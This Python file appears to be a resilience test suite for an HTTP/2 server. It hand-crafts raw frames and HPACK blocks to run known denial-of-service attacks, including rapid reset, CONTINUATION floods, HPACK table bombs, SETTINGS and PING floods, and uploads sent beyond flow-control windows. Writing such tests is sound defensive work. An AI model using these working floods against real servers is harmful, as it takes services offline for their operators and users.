"""Attacks over HTTP/2, by prior knowledge, in frames that no library would make."""

from __future__ import annotations

from itertools import count

import trio
from _attackers import Aim, Wire, attack

DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = (
    0, 1, 2, 3, 4, 6, 7, 8, 9,
)  # fmt: skip
END_STREAM, ACK, END_HEADERS = 1, 1, 4


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return one frame (RFC 9113 § 4.1)."""
    head = len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big")
    return head + payload


def literal(name: bytes, value: bytes, *, kept: bool = False) -> bytes:
    """Return a header field for HPACK, which the server's table keeps or not (RFC 7541 § 6.2)."""
    return b"".join([b"\x40" if kept else b"\x00", _string(name), _string(value)])


def _string(text: bytes) -> bytes:
    if len(text) < 127:
        return bytes([len(text)]) + text
    rest, sizes = len(text) - 127, [127]
    while rest >= 128:
        sizes.append(rest % 128 | 128)
        rest //= 128
    return bytes([*sizes, rest]) + text


def request(path: bytes = b"/", *, post: bool = False) -> bytes:
    """Return the header block of a request."""
    # From the static table: method, scheme; names of path and authority.
    method = b"\x83" if post else b"\x82"
    return method + b"\x86\x04" + _string(path) + b"\x01" + _string(b"localhost")


def setting(code: int, value: int) -> bytes:
    return code.to_bytes(2, "big") + value.to_bytes(4, "big")


HELLO = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)


def get(stream: int, path: bytes = b"/") -> bytes:
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, request(path))


async def connect(aim: Aim, hello: bytes = HELLO) -> Wire:
    wire = await aim.connect()
    await wire.send(hello)
    return wire


@attack(500)
async def h2_idle(aim: Aim) -> None:
    """The preface, and nothing more."""
    wire = await connect(aim)
    await wire.hold()


@attack(20)
async def h2_unknown_settings(aim: Aim) -> None:
    """Settings of 65,000 ids that nobody knows."""
    wire = await connect(aim)
    for start in range(256, 65_000, 2048):
        ids = range(start, min(start + 2048, 65_000))
        await wire.send(frame(SETTINGS, 0, 0, b"".join(setting(code, 1) for code in ids)))
    await wire.hold()


@attack(20)
async def h2_settings(aim: Aim) -> None:
    """Settings, over and over; their acknowledgements are never read."""
    wire = await connect(aim)
    await wire.flood(frame(SETTINGS, 0, 0, setting(3, 100)) * 500, reads=False)


@attack(20)
async def h2_table_sizes(aim: Aim) -> None:
    """Settings that change the header table's size, over and over."""
    changes = b"".join(setting(1, number % 4096) for number in range(1000))
    wire = await connect(aim)
    await wire.flood(frame(SETTINGS, 0, 0, changes) * 3)


@attack(20)
async def h2_pings(aim: Aim) -> None:
    """Pings, whose answers are never read."""
    wire = await connect(aim)
    await wire.flood(frame(PING, 0, 0, b"pingpong") * 500, reads=False)


@attack(20)
async def h2_priorities(aim: Aim) -> None:
    """Priorities of streams that never come."""
    wire = await connect(aim)
    for start in range(1, 1 << 30, 1000):
        streams = range(start, start + 1000, 2)
        await wire.send(b"".join(frame(PRIORITY, 0, n, b"\0\0\0\0\x10") for n in streams))


@attack(20)
async def h2_rapid_reset(aim: Aim) -> None:
    """Requests that are reset at once."""
    wire = await connect(aim)
    for start in range(1, 1 << 30, 200):
        numbers = range(start, start + 200, 2)
        await wire.send(b"".join(get(n) + frame(RST, 0, n, b"\0\0\0\x08") for n in numbers))


@attack(20)
async def h2_made_you_reset(aim: Aim) -> None:
    """Requests that the server is made to reset."""
    wire = await connect(aim)
    for start in range(1, 1 << 30, 200):
        numbers = range(start, start + 200, 2)
        await wire.send(b"".join(get(n) + frame(WINDOW, 0, n, b"\0\0\0\0") for n in numbers))


@attack(20)
async def h2_window_updates(aim: Aim) -> None:
    """Windows, opened byte by byte."""
    wire = await connect(aim)
    await wire.send(get(1, b"/paced"))
    await wire.flood(frame(WINDOW, 0, 1, b"\0\0\0\x01") * 500)


@attack(20)
async def h2_empty_data(aim: Aim) -> None:
    """A body of empty DATA frames."""
    wire = await connect(aim)
    await wire.send(frame(HEADERS, END_HEADERS, 1, request(b"/read", post=True)))
    await wire.flood(frame(DATA, 0, 1) * 500)


@attack(50)
async def h2_continuations(aim: Aim) -> None:
    """A head in CONTINUATION frames without end."""
    wire = await connect(aim)
    await wire.send(frame(HEADERS, 0, 1, request()))
    await wire.flood(frame(CONTINUATION, 0, 1, literal(b"a", b"b")) * 500)


@attack(200)
async def h2_unended_head(aim: Aim) -> None:
    """A head without its end, and nothing more."""
    wire = await connect(aim)
    await wire.send(frame(HEADERS, 0, 1, request() + literal(b"a", b"b" * 10_000)))
    await wire.hold()


@attack(20)
async def h2_hpack_bomb(aim: Aim) -> None:
    """A header of 4,000 bytes in the table, meant 10,000 times by a byte each."""
    block = request() + literal(b"a", b"b" * 4000, kept=True) + b"\xbe" * 10_000
    wire = await connect(aim)
    await wire.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, block))
    await wire.hold()


@attack(20)
async def h2_hpack_small_bomb(aim: Aim) -> None:
    """Requests that name a header 1,900 times by a byte each, within every bound of size."""
    wire = await connect(aim)
    keep = request() + literal(b"a", b"", kept=True)
    await wire.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, keep))
    async with trio.open_nursery() as nursery:
        nursery.start_soon(wire.hold)
        for number in count(3, 2):
            block = request() + b"\xbe" * 1900
            await wire.send(frame(HEADERS, END_STREAM | END_HEADERS, number, block))


@attack(10)
async def h2_unread_uploads(aim: Aim) -> None:
    """100 uploads that the application does not read, 1 KiB each, which their windows hold."""
    wire = await connect(aim, HELLO + frame(SETTINGS, ACK, 0))
    numbers = range(1, 200, 2)
    await wire.send(
        b"".join(frame(HEADERS, END_HEADERS, n, request(b"/unread", post=True)) for n in numbers)
    )
    with trio.move_on_after(0.2):
        await wire.until(setting(4, 1024))  # streams begin with narrower windows from here on
    await wire.send(frame(SETTINGS, ACK, 0))
    await wire.send(b"".join(frame(DATA, 0, n, bytes(1024)) for n in numbers))
    await wire.hold()


@attack(10)
async def h2_uploads_beyond_windows(aim: Aim) -> None:
    """100 uploads that the application does not read, 48 KiB each, whatever the windows say."""
    wire = await connect(aim)
    numbers = range(1, 200, 2)
    async with trio.open_nursery() as nursery:
        nursery.start_soon(wire.hold)
        for n in numbers:
            await wire.send(frame(HEADERS, END_HEADERS, n, request(b"/unread", post=True)))
        for _ in range(3):
            for n in numbers:
                await wire.send(frame(DATA, 0, n, b"x" * 16_384))


@attack(50)
async def h2_crowd(aim: Aim) -> None:
    """100 requests at once on each connection, 5,000 in all, again and again."""
    wire = await connect(aim)
    for start in range(1, 1 << 30, 200):
        await wire.send(b"".join(get(n) for n in range(start, start + 200, 2)))
        last = (start + 198).to_bytes(4, "big")
        await wire.until(b"\0\x01" + last)  # DATA with END_STREAM


@attack(20)
async def h2_stalled_reader(aim: Aim) -> None:
    """An endless response that is granted no window."""
    hello = HELLO[:24] + frame(SETTINGS, 0, 0, setting(4, 0))
    wire = await connect(aim, hello)
    await wire.send(get(1, b"/flood"))
    await wire.hold()
